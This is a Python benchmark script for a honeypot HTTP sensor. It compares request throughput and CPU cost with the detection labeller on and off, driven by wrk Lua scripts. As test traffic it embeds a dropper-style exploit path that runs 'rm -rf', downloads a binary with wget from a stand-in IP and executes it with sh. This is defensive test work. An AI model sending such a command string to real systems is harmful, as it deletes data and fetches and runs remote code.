"""HTTP sensor throughput with detection on, beside the same sensor with detection off, same run.

Two sensors (Apache persona, uvloop, bench_http's counting sink: every event built and JSON-encoded)
run side by side on core 0, one with the full built-in rule set labelling every event as it is
recorded, one without a labeler; ``wrk -t1 -c64`` on core 1 drives each in alternating rounds
(best round of each reported, the machine may be shared). Three request streams:

- ordinary requests and dropper exploits, every request of the whole run distinct (a counter in
  the target that no round restarts), so the result cache for repeated requests never answers;
  the exploit's counter is inside its payload (the dropper's file name), so no memo of a payload
  part answers either;
- the same exploit with the counter in a parameter of its own (a bot's cache-buster): the
  payload's parts repeat and IOC extraction's memos answer them, so it is reported apart;
- the wild capture (../shared/data/wild-http) replayed as it arrived: each distinct request
  repeated by its count, shuffled, so about 97 % are repeats, as in real honeypot traffic. This
  one is reported apart: the result cache answers most of it.

The sensors' CPU time per request (from /proc) is reported beside the rates: it is the figure that
survives a busy machine. Target: detection on >= 0.8 of detection off.

Then, in this process, what labelling costs a distinct request of the first two streams (CPU per
event in batches of 64, about what one loop turn of the busy sensor gathers: 60 on average under
this wrk; its gc settings): the whole of ``BatchLabeler.label_many``, and IOC extraction alone (``subjects_iocs``
after the rules matched, as the labeler runs it), beside the same extraction without ``_iocscan``
(the Python scans), its gates on the pip binding: what the native parts save.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import itertools
import json
import random
import re
import signal
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "src"))
sys.path.insert(0, str(HERE.parent))  # the detect tests' event builder (tests/detect/_support.py)

from bench_http import best, cpu_seconds, free_port, need, pinned_sensor  # noqa: E402
from http_sensor_server import CountingSink  # noqa: E402

WILD = HERE.parents[1] / "shared" / "data" / "wild-http" / "requests.jsonl"
# stream -> the target before and after the counter
PATHS = {
    "ordinary requests": ("/index.html?page=", ""),
    # the counter inside the payload (the dropper's file name): no memo of a payload part answers
    "exploit requests": ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws", ";sh+/tmp/jaws"),
    # a cache-busting parameter beside a payload that repeats: IOC extraction's memos of repeated
    # parts (download commands, URLs) answer, so this one is reported apart
    "exploit requests, counter in a parameter of its own (memos answer the repeated payload)": (
        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws&n=",
        "",
    ),
}
DISTINCT_LUA = """
local n = {first}
request = function()
  n = n + 1
  return wrk.format("GET", "{before}" .. n .. "{after}")
end
"""
# the wild stream: a table of distinct requests and the order they arrive in
WILD_LUA = """
local requests = {{requests}}
local order = {}
for index in string.gmatch("{order}", "%d+") do order[#order + 1] = tonumber(index) end
local n = {first} % #order
request = function()
  n = n % #order + 1
  return requests[order[n]]
end
"""
_RUNS = itertools.count(1)
# framing and connection headers are the client's business: wrk keeps every connection alive
_HOP_HEADERS = {b"connection", b"keep-alive", b"content-length", b"transfer-encoding", b"proxy-connection", b"te"}


async def serve(port: int, detect: bool) -> dict[str, object]:
    from honeyguard.config import DetectSettings, Limits, Listener, SensorSettings
    from honeyguard.detect import load_labeler
    from honeyguard.sensor.sensor import Sensor

    labeled = {"labeled": 0}

    class CountingLabels(CountingSink):
        def emit(self, event: object) -> None:
            super().emit(event)  # type: ignore[arg-type]
            labeled["labeled"] += bool(getattr(event, "rules", None))

    sink = CountingLabels()
    settings = SensorSettings(
        listeners=[Listener(service="http", port=port, persona="apache-ubuntu")],
        limits=Limits(max_connections=4096, max_commands=1_000_000),
    )
    labeler = load_labeler(DetectSettings()) if detect else None
    with tempfile.TemporaryDirectory() as data_dir:
        sensor = Sensor(settings, sink=sink, data_dir=Path(data_dir), labeler=labeler)
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, stop.set)
        await sensor.start()
        print("ready", flush=True)
        await stop.wait()
        await sensor.stop()
    return {"events": dict(sink.kinds), "labeled_events": labeled["labeled"]}


def sensor(detect: bool) -> contextlib.AbstractContextManager[tuple[subprocess.Popen[str], int, dict[str, object]]]:
    port = free_port()
    return pinned_sensor([__file__, "--serve", str(port), *(["--detect"] if detect else [])], port)


def streams(quick: bool) -> dict[str, tuple[str, dict[str, object]]]:
    """name -> (wrk Lua script template, what it sends)."""
    out = {
        name: (
            DISTINCT_LUA.replace("{before}", before).replace("{after}", after),
            {"path": f"{before}<counter>{after}", "requests": "every one distinct"},
        )
        for name, (before, after) in PATHS.items()
    }
    wild = wild_stream(30_000 if quick else 200_000)
    if wild is not None:
        out["wild-capture mix, result cache answering repeats"] = wild
    return out


def compare(quick: bool) -> None:
    rounds, seconds = (2, 2) if quick else (3, 4)
    with sensor(True) as (on_proc, on_port, on_counts), sensor(False) as (off_proc, off_port, _):
        for name, (lua, sends) in streams(quick).items():
            on_runs, off_runs = [], []
            wrk(on_port, 1, lua)  # warm up
            for _ in range(rounds):  # alternate, so that both see the same background load
                on_runs.append(_measure(on_proc.pid, on_port, seconds, lua))
                off_runs.append(_measure(off_proc.pid, off_port, seconds, lua))
            on, off = best(on_runs), best(off_runs)
            print(json.dumps(figure(name, on, off, on_runs, off_runs, sends, rounds, seconds, quick)), flush=True)
    print(json.dumps({"detection_on_sensor_events": on_counts}), file=sys.stderr)


def figure(
    name: str,
    on: dict[str, float],
    off: dict[str, float],
    on_runs: list[dict[str, float]],
    off_runs: list[dict[str, float]],
    sends: dict[str, object],
    rounds: int,
    seconds: int,
    quick: bool,
) -> dict[str, object]:
    return {
        "figure": f"sensor http_rps with detection on ({name})",
        "value": round(on["rps"]),
        "unit": "requests/s",
        "reference": {"name": "the same sensor with detection off", "value": round(off["rps"]), "unit": "requests/s"},
        "ratio": round(on["rps"] / off["rps"], 3),
        "target": ">= 0.8",
        "params": {
            **sends,
            "wrk": f"-t1 -c64, {rounds} alternating rounds of {seconds}s, best",
            "on_rounds_rps": [round(r["rps"]) for r in on_runs],
            "off_rounds_rps": [round(r["rps"]) for r in off_runs],
            "on_cpu_us_per_request": on["cpu_us_per_request"],
            "off_cpu_us_per_request": off["cpu_us_per_request"],
            "cpu_ratio": round(off["cpu_us_per_request"] / on["cpu_us_per_request"], 3),
            "labelling": "in batches, once per event-loop turn (sensor/sinks.py LabellingSink); rules and IOC "
            "extraction each staged over the batch (detect/sensorapi.py)",
            "cores": "sensors on core 0, wrk on core 1",
            "quick": quick,
        },
    }


def wild_stream(limit: int) -> tuple[str, dict[str, object]] | None:
    """The wild capture as it arrived (each distinct request repeated by its count, shuffled),
    as a wrk script; None when the capture is not there."""
    if not WILD.exists():
        return None
    from honeyguard.detect.httpsplit import split_http

    distinct: list[bytes] = []
    order: list[int] = []
    skipped = 0
    for line in WILD.open():
        item = json.loads(line)
        request = keep_alive_request(split_http(base64.b64decode(item["request_b64"])))
        if request is None:
            skipped += 1
            continue
        distinct.append(request)
        order += [len(distinct)] * int(item.get("count") or 1)
    random.Random(7).shuffle(order)
    order = order[:limit]
    lua = WILD_LUA.replace("{requests}", ",".join(_lua_string(r) for r in distinct)).replace(
        "{order}", " ".join(map(str, order))
    )
    repeats = 1 - len(set(order)) / len(order)
    return lua, {
        "requests": f"wild-http capture, {len(order)} requests in arrival order, {len(set(order))} "
        f"distinct ({repeats:.1%} repeats; {skipped} not HTTP left out); HEAD and CONNECT "
        "sent as GET, HTTP/1.1, framing headers rewritten for keep-alive"
    }


def keep_alive_request(parts: object) -> bytes | None:
    """A captured request as a keep-alive HTTP/1.1 request wrk can read the answer to."""
    from honeyguard.detect.httpsplit import SplitRequest

    if not isinstance(parts, SplitRequest) or not parts.target:
        return None
    method = b"GET" if parts.method.upper() in (b"HEAD", b"CONNECT") else parts.method
    headers = [(n, v) for n, v in parts.headers if n.lower() not in _HOP_HEADERS and n]
    if not any(n.lower() == b"host" for n, _ in headers):
        headers.insert(0, (b"Host", b"127.0.0.1"))
    if parts.body:
        headers.append((b"Content-Length", b"%d" % len(parts.body)))
    lines = b"".join(b"%s: %s\r\n" % (n, v) for n, v in headers)
    return b"%s %s HTTP/1.1\r\n%s\r\n%s" % (method, parts.target, lines, parts.body)


def _lua_string(data: bytes) -> str:
    """``data`` as a Lua string literal (decimal escapes for everything but plain printable ASCII)."""
    return '"' + "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else f"\\{b:03d}" for b in data) + '"'


def _measure(pid: int, port: int, seconds: int, lua: str) -> dict[str, float]:
    """Requests/s by wrk, and the sensor's CPU per request (steadier on a busy machine)."""
    before = cpu_seconds(pid)
    result = wrk(port, seconds, lua)
    result["cpu_us_per_request"] = round((cpu_seconds(pid) - before) / max(result["requests"], 1) * 1e6, 1)
    return result


def wrk(port: int, seconds: int, lua: str) -> dict[str, float]:
    """One wrk run; its counter starts where no earlier run's reached, so that no request of the
    distinct streams repeats an earlier one (a run sends far fewer than 10^8)."""
    with tempfile.NamedTemporaryFile("w", suffix=".lua") as script:
        script.write(lua.replace("{first}", str(next(_RUNS) * 10**8)))
        script.flush()
        command = [need("taskset"), "-c", "1", need("wrk"), "-t1", "-c64", f"-d{seconds}s", "-s", script.name]
        command.append(f"http://127.0.0.1:{port}/")
        output = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    rps = re.search(r"Requests/sec:\s+([\d.]+)", output)
    total = re.search(r"(\d+) requests in", output)
    if rps is None or total is None:
        raise RuntimeError(f"cannot read wrk output:\n{output}")
    return {"rps": float(rps.group(1)), "requests": int(total.group(1))}


def in_process(quick: bool) -> None:
    """CPU per distinct request for labelling, and for IOC extraction alone (native, fallback)."""
    import gc
    import time

    from honeyguard.detect import load_labeler
    from honeyguard.detect.sensorapi import BatchLabeler

    labeler = load_labeler()
    count, rounds = (4_000, 2) if quick else (20_000, 3)
    counter = itertools.count(10**9)
    gc.freeze()  # as the sensor runs (sensor/sensor.py)
    gc.set_threshold(10_000, 10, 10)
    for name in ("ordinary requests", "exploit requests"):
        before, after = PATHS[name]
        cost: dict[str, list[float]] = {"label": [], "iocs": [], "fallback": []}
        for _ in range(rounds):
            events = [_event(f"{before}{next(counter)}{after}") for _ in range(count)]
            started = time.process_time()
            batches = BatchLabeler(labeler)
            for at in range(0, count, 64):
                batches.label_many(events[at : at + 64])
            cost["label"].append((time.process_time() - started) / count * 1e6)
            cost["iocs"].append(_extraction_cost(labeler, [_event(f"{before}{next(counter)}{after}") for _ in events]))
            with _python_fallback():
                cost["fallback"].append(
                    _extraction_cost(labeler, [_event(f"{before}{next(counter)}{after}") for _ in events])
                )
        label, iocs, fallback = (round(min(cost[key]), 2) for key in ("label", "iocs", "fallback"))
        params = {"path": f"{before}<counter>{after}", "events": count, "rounds": rounds, "quick": quick}
        print(
            json.dumps(
                {
                    "figure": f"in-process labelling CPU per distinct request ({name})",
                    "value": label,
                    "unit": "us/request",
                    "reference": {"name": "of which IOC extraction", "value": iocs, "unit": "us/request"},
                    "ratio": round(iocs / label, 3),
                    "target": "labelling <= 0.25 x the detection-off sensor's CPU per request (0.8 of its rate)",
                    "params": {**params, "rounds_us": [round(v, 2) for v in cost["label"]]},
                }
            ),
            flush=True,
        )
        print(
            json.dumps(
                {
                    "figure": f"in-process IOC extraction CPU per distinct request ({name})",
                    "value": iocs,
                    "unit": "us/request",
                    "reference": {
                        "name": "the same without _iocscan (Python scans), gates on the pip binding",
                        "value": fallback,
                        "unit": "us/request",
                    },
                    "ratio": round(iocs / fallback, 3) if fallback else None,
                    "target": "as low as it goes",
                    "params": {**params, "native": _native_scans()},
                }
            ),
            flush=True,
        )


def _event(target: str) -> object:
    """A request as the sensor records it from wrk (a Host header only)."""
    from tests.detect._support import http_event

    from honeyguard.model import HttpRequest

    headers = [("Host", "127.0.0.1:8080")]
    request = HttpRequest(
        method="GET", target=target, version="HTTP/1.1", headers=headers, header_size=len(target) + 40
    )
    return http_event(request, dst_port=8080)


def _extraction_cost(labeler: object, events: list[object]) -> float:
    """CPU per event of ``subjects_iocs`` over batches of 64 whose rules were matched first (the
    subjects' lazy parts the engine built are there, as in BatchLabeler._match)."""
    import time

    from honeyguard.detect.fields import event_subject
    from honeyguard.detect.iocs import subjects_iocs

    spent = 0.0
    for at in range(0, len(events), 64):
        subjects = [event_subject(e) for e in events[at : at + 64]]  # type: ignore[arg-type]
        labeler.engine.match_many(subjects)  # type: ignore[attr-defined]
        started = time.process_time()
        subjects_iocs(subjects)  # type: ignore[arg-type]
        spent += time.process_time() - started
    return spent / len(events) * 1e6


def _native_scans() -> dict[str, object]:
    from honeyguard.detect.iocs import anchored, gates, native_jobs

    return {
        "iocscan": anchored.NATIVE_AVAILABLE,
        "jobs_in_c": native_jobs.run_jobs is not None,
        "gates": gates.BACKEND,
        "gates_db": type(gates._DB).__name__,
    }


@contextlib.contextmanager
def _python_fallback() -> Iterator[None]:
    """IOC extraction as it runs without _iocscan (the tests' fallback), its gates scanned through
    the pip binding of Hyperscan as before the native scans (pure Python without it)."""
    from honeyguard.detect import hsnative
    from honeyguard.detect.iocs import anchored, collector, downloads, hosts
    from honeyguard.detect.iocs import gates as G

    package = sys.modules["honeyguard.detect.iocs"]
    gates = G.python_gates
    if hsnative.PIP is not None:
        expressions, ids = G._expressions()
        flags = [hsnative.CASELESS | hsnative.SINGLEMATCH] * len(expressions)
        gates = hsnative.PIP.compile(expressions, ids, flags).scan
    swaps = [
        (sys.modules["honeyguard.detect.iocs.extract"], "urls", anchored.py_urls),
        (sys.modules["honeyguard.detect.iocs.extract"], "ipv4s", anchored.py_ipv4s),
        (sys.modules["honeyguard.detect.iocs.extract"], "download_commands", anchored.py_download_commands),
        (anchored, "urls", anchored.py_urls),
        (collector, "url_parts", collector.py_url_parts),
        (collector, "parse_url", collector.py_parse_url),
        (sys.modules["honeyguard.detect.iocs.layers"], "gates", gates),
        (package, "_open_gates", gates),
        (sys.modules["honeyguard.detect.iocs.extract"], "run_jobs", None),  # whole jobs in C
        (package, "what_to_extract", None),
    ]
    saved = [(module, attr, getattr(module, attr)) for module, attr, _ in swaps]
    memos = (downloads.download_ops, collector._parsed_url, collector.host_class, hosts.ip_kind)
    try:
        for module, attr, value in swaps:
            setattr(module, attr, value)
        for memo in memos:
            memo.cache_clear()
        yield
    finally:
        for module, attr, value in saved:
            setattr(module, attr, value)
        for memo in memos:
            memo.cache_clear()


def stage_costs(quick: bool) -> None:
    """CPU per distinct request of labelling without IOC extraction (the other figure's subject),
    stage by stage: the subject, the engine, and the labeller's own work (cache keys and admission,
    Result, the event's copy), as ``BatchLabeler.label_many`` runs them in batches of 64."""
    import gc
    import time

    from honeyguard.detect import load_labeler, sensorapi
    from honeyguard.detect.fields import event_subject
    from honeyguard.detect.sensorapi import BatchLabeler

    labeler = load_labeler()
    count, rounds = (4_000, 2) if quick else (20_000, 3)
    counter = itertools.count(3 * 10**9)
    gc.freeze()  # as the sensor runs (sensor/sensor.py)
    gc.set_threshold(10_000, 10, 10)
    extracting = sensorapi.subjects_iocs
    spent = [0.0]

    def timed_extraction(subjects: list[object]) -> object:
        started = time.process_time()
        found = extracting(subjects)  # type: ignore[arg-type]
        spent[0] += time.process_time() - started
        return found

    for name in ("ordinary requests", "exploit requests"):
        before, after = PATHS[name]
        runs: list[dict[str, float]] = []
        for _ in range(rounds):
            events = [_event(f"{before}{next(counter)}{after}") for _ in range(count)]
            batches, spent[0] = BatchLabeler(labeler), 0.0
            sensorapi.subjects_iocs = timed_extraction  # type: ignore[assignment]
            try:
                started = time.process_time()
                for at in range(0, count, 64):
                    batches.label_many(events[at : at + 64])
                whole = time.process_time() - started - spent[0]
            finally:
                sensorapi.subjects_iocs = extracting
            subject = match = 0.0
            for _ in range(0, count, 64):  # the first two stages alone, on fresh requests
                fresh = [_event(f"{before}{next(counter)}{after}") for _ in range(64)]
                started = time.process_time()
                subjects = [event_subject(e) for e in fresh]  # type: ignore[arg-type]
                made = time.process_time()
                labeler.engine.match_many(subjects)  # type: ignore[arg-type]
                subject, match = subject + made - started, match + time.process_time() - made
            runs.append({"whole": whole / count * 1e6, "subject": subject / count * 1e6, "match": match / count * 1e6})
        best = min(runs, key=lambda run: run["whole"])
        own = best["whole"] - best["subject"] - best["match"]
        print(
            json.dumps(
                {
                    "figure": f"in-process labelling CPU per distinct request without IOC extraction ({name})",
                    "value": round(best["whole"], 2),
                    "unit": "us/request",
                    "reference": {
                        "name": "of which the engine (match_many)",
                        "value": round(best["match"], 2),
                        "unit": "us/request",
                    },
                    "ratio": round(best["match"] / best["whole"], 3),
                    "target": "<= 6 us for a distinct dropper (issue 3: 0.25 x the detection-off sensor's CPU, "
                    "less IOC extraction's share)",
                    "params": {
                        "path": f"{before}<counter>{after}",
                        "events": count,
                        "rounds": rounds,
                        "stages_us": {
                            "event_subject": round(best["subject"], 2),
                            "match_many": round(best["match"], 2),
                            "labeller's own (by difference)": round(own, 2),
                        },
                        "rounds_us": [round(run["whole"], 2) for run in runs],
                        "quick": quick,
                    },
                }
            ),
            flush=True,
        )


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--in-process", action="store_true", help="only the in-process labelling figures")
    parser.add_argument("--serve", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--detect", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve is None:
        if not args.in_process:
            compare(args.quick)
        in_process(args.quick)
        stage_costs(args.quick)
        return
    try:
        import uvloop

        runner = uvloop.run
    except ImportError:  # pragma: no cover - uvloop is a dependency on Linux
        runner = asyncio.run
    print(json.dumps(runner(serve(args.serve, args.detect))), flush=True)


if __name__ == "__main__":
    main()
